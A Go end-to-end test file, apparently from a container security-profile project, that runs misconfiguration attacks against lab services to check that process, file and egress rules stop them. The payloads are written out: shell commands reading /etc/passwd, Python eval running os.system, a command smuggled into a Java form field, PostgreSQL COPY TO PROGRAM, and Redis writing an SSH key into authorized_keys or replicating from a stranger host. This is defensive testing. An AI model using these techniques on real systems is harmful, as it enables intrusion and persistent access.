// SPDX-License-Identifier: Apache-2.0

package e2e

import (
	"context"
	"fmt"
	"io"
	"net/http"
	"net/netip"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/holdfast-project/holdfast/tests/lab"
	"github.com/holdfast-project/holdfast/tests/wait"
)

// attack is something that is done to a service through a mistake that many make.
type attack struct {
	name, service string
	// signal is the part of the profile that it goes against.
	signal string
	// do tries it. It returns an error if it could not.
	do func(t *testing.T, f *field) error
	// absent are files of the container that it would have made.
	absent []string
	// repair undoes settings that the attack could change without going against the profile.
	repair func(t *testing.T, f *field)
}

var attacks = []attack{
	{name: "nginx runs a shell", service: "edge", signal: "process", absent: []string{"/tmp/owned"}, do: func(t *testing.T, f *field) error {
		return failedExec(f.running["edge"].Exec(t.Context(), "/bin/sh", "-c", "id >/tmp/owned; cat /etc/passwd"))
	}},
	{name: "Python runs a shell", service: "app", signal: "process", absent: []string{"/tmp/owned"}, do: func(t *testing.T, f *field) error {
		return f.calc(t, `__import__("os").system("id >/tmp/owned")`)
	}},
	{name: "Python writes a module", service: "app", signal: "file", absent: []string{"/srv/app/plugin.py"}, do: func(t *testing.T, f *field) error {
		return f.calc(t, `open("/srv/app/plugin.py", "w").write("import os")`)
	}},
	{name: "Java runs a shell", service: "java", signal: "process", absent: []string{"/tmp/owned"}, do: func(t *testing.T, f *field) error {
		form := url.Values{"text": {"x"}, "with": {"/bin/sh|-c|id >/tmp/owned; cat /etc/passwd"}}
		text, err := post(t.Context(), "http://"+f.address("java")+"/pack.jsp", form, f.r.Lab)
		if strings.Contains(text, "packed: true") {
			t.Errorf("the shell's output is there: %s", text)
		}
		return err
	}},
	{name: "PostgreSQL runs a program", service: "postgres", signal: "process", absent: []string{"/tmp/owned"}, do: func(t *testing.T, f *field) error {
		return f.sql(t, "COPY (SELECT 1) TO PROGRAM 'cat >/tmp/owned'")
	}},
	{name: "Redis writes keys", service: "redis", signal: "file", absent: []string{"/tmp/authorized_keys"},
		do: saveKeys, repair: func(t *testing.T, f *field) {
			if err := f.save(t, "/var/lib/redis", "dump.rdb"); err != nil {
				t.Error(err)
			}
		}},
	{name: "Redis follows a stranger", service: "redis", signal: "egress", do: func(t *testing.T, f *field) error {
		sink := f.sink(t, "203.0.113.7:6379")
		if _, err := f.redis(t.Context(), "REPLICAOF", "203.0.113.7", "6379"); err != nil {
			return err
		}
		return sink.untouched(3 * time.Second)
	}, repair: func(t *testing.T, f *field) {
		if _, err := f.redis(t.Context(), "REPLICAOF", "NO", "ONE"); err != nil {
			t.Error(err)
		}
	}},
	{name: "Prometheus asks a stranger", service: "metrics", signal: "egress", do: func(t *testing.T, f *field) error {
		sink := f.sink(t, "203.0.113.8:9100")
		if err := os.WriteFile(filepath.Join(f.r.Dir, "targets", "more.json"), []byte(`[{"targets": ["203.0.113.8:9100"]}]`), 0o644); err != nil {
			return err
		}
		return sink.untouched(8 * time.Second)
	}},
}

// saveKeys has Redis save what it holds where a shell looks for keys.
func saveKeys(t *testing.T, f *field) error {
	if _, err := f.redis(t.Context(), "SET", "k", "\n\nssh-ed25519 AAAA intruder\n\n"); err != nil {
		return err
	}
	return f.save(t, "/tmp", "authorized_keys")
}

// save has Redis save what it holds, in a file.
func (f *field) save(t *testing.T, dir, file string) error {
	for _, command := range [][]string{{"CONFIG", "SET", "dir", dir}, {"CONFIG", "SET", "dbfilename", file}} {
		if _, err := f.redis(t.Context(), command...); err != nil {
			return err
		}
	}
	// Redis may be saving by itself.
	return wait.For(t.Context(), 20*time.Second, func() error {
		_, err := f.redis(t.Context(), "BGSAVE")
		return err
	})
}

// calc has the application evaluate an expression.
func (f *field) calc(t *testing.T, expression string) error {
	text, err := post(t.Context(), "http://"+f.address("app")+"/calc?expression="+url.QueryEscape(expression), nil, f.r.Lab)
	t.Logf("the application answers %q, %v", text, err)
	return nil
}

// post posts a form, or fetches where there is none, in a connection of its own.
func post(ctx context.Context, address string, form url.Values, l *lab.Lab) (string, error) {
	web := &http.Client{Timeout: 30 * time.Second, Transport: &http.Transport{DialContext: l.DialContext, DisableKeepAlives: true}}
	do := func() (*http.Response, error) { return web.Get(address) }
	if form != nil {
		do = func() (*http.Response, error) { return web.PostForm(address, form) }
	}
	response, err := do()
	if err != nil {
		return "", err
	}
	defer response.Body.Close()
	text, err := io.ReadAll(response.Body)
	return string(text), err
}

// sql runs a statement as somebody who has found the database's password; it may fail.
func (f *field) sql(t *testing.T, statement string) error {
	pod := runPod(t, f.r, lab.PodConfig{Namespace: "load", Name: "intruder"})
	script := fmt.Sprintf("psql -h %s -c \"%s\" postgres", f.running["postgres"].Pod.IP, statement)
	c := run(t, pod, lab.ContainerConfig{Name: "psql", Image: lab.PostgresImage, Command: []string{"/bin/sh", "-c", script}})
	if _, err := c.Wait(t.Context()); err != nil {
		return err
	}
	log, err := c.Logs()
	t.Logf("PostgreSQL answers %s", log)
	if !strings.Contains(log, "program") {
		return fmt.Errorf("PostgreSQL has not tried it: %s", log)
	}
	return err
}

// sink is somebody whom no service should contact.
type sink struct{ touched chan string }

// sink listens at an address.
func (f *field) sink(t *testing.T, address string) *sink {
	t.Helper()
	if err := f.r.Lab.AddAddress(netip.MustParseAddrPort(address).Addr()); err != nil {
		t.Fatal(err)
	}
	listener, err := f.r.Lab.Listen(t.Context(), "tcp", address)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = listener.Close() })
	s := &sink{touched: make(chan string, 1)}
	go func() {
		conn, err := listener.Accept()
		if err == nil {
			s.touched <- conn.RemoteAddr().String()
			_ = conn.Close()
		}
	}()
	return s
}

// untouched waits that long for somebody who comes, which is an error.
func (s *sink) untouched(last time.Duration) error {
	select {
	case from := <-s.touched:
		return fmt.Errorf("%s has got through", from)
	case <-time.After(last):
		return nil
	}
}
